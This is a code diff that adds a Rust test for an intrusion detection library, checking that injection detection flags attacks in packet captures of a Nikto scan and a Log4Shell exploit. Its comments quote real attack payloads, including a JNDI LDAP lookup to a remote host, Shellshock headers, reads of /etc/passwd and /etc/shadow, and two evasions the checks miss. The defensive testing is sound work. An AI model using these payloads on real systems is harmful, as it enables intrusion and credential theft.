@@ -1,6 +1,7 @@
 //! Injections found in HTTP requests (`Exchange::fwd_injection`) on real captures: the SQL
-//! injection of nDPI's DVWA request and of the CIC-IDS2017 excerpt is found, no request of the
-//! real benign HTTP captures or of the nDPI corpus's ordinary web traffic is called one. Skips
+//! injection of nDPI's DVWA request and of the CIC-IDS2017 excerpt is found, so are the command
+//! and code injections and path traversals of a Nikto scan and a Log4Shell exploit; no request of
+//! the real benign HTTP captures or of the nDPI corpus's ordinary web traffic is called one. Skips
 //! (loudly; fails under MLIDS_REQUIRE_ALL=1) without the shared data.
 
 use mlids_flow::{FlowRecord, Injection, MeterConfig, Mode};
@@ -34,6 +35,37 @@ fn sql_injection_and_xss_requests_are_found() {
     // nDPI's DVWA DOM XSS request: ?default=English<script>alert(1)</script>.
     let xss = injections(&data.join("pcap/bench/ndpi-default/xss.pcap"));
     assert_eq!(xss, [Injection::Script]);
+}
+
+#[test]
+fn server_side_exploits_are_found() {
+    let Some(data) = shared_data() else { return };
+    // A Log4Shell exploit: `uname=${jndi:ldap://172.16.238.11:1389/a}` in a login form (its
+    // User-Agent, `jndi:ldap://…` without the `${`, is no lookup).
+    let log4j = injections(&data.join("pcap/bench/ndpi-default/log4j-webapp-exploit.pcap"));
+    assert_eq!(log4j, [Injection::Code]);
+    // nDPI's WebattackRCE is a Nikto scan: 797 requests (one flow each, the capture holds only the
+    // client's segments), most of them probes of script paths with nothing in their text. The
+    // flagged requests were read one by one (tcpdump -A) when this was written: 143 command
+    // injections (Shellshock function definitions in `User-Agent` and `Referer`, `cmd.exe`
+    // reached by `..%255c` and `..%c0%af` traversal, `;id`, `|dir`, `?cmd=cat /etc/passwd`), 57
+    // code injections (`phpinfo()`, `passthru($HTTP_GET_VARS[rush])`, `system('cat
+    // /etc/passwd')`), 9 traversals (`/../../etc/shadow`, `ONLY=../../../../../boot.ini`). Of the
+    // 587 requests left, 11 have anything but a plain path; two of them are attempts these checks
+    // pass (`comma=\".system\('id'\)\.\"`, whose backslashes break the call, and
+    // `cli=aa aa'cat /etc/hosts`, a command after a quote).
+    let rce = injections(&data.join("pcap/attack/web-rce/ndpi_WebattackRCE.pcap"));
+    let count = |kind| rce.iter().filter(|i| **i == kind).count();
+    assert_eq!(
+        (
+            count(Injection::Command),
+            count(Injection::Code),
+            count(Injection::Traversal)
+        ),
+        (143, 57, 9),
+        "{rce:?}"
+    );
+    assert_eq!(rce.len(), 209, "only these three kinds: {rce:?}");
 }
 
 #[test]
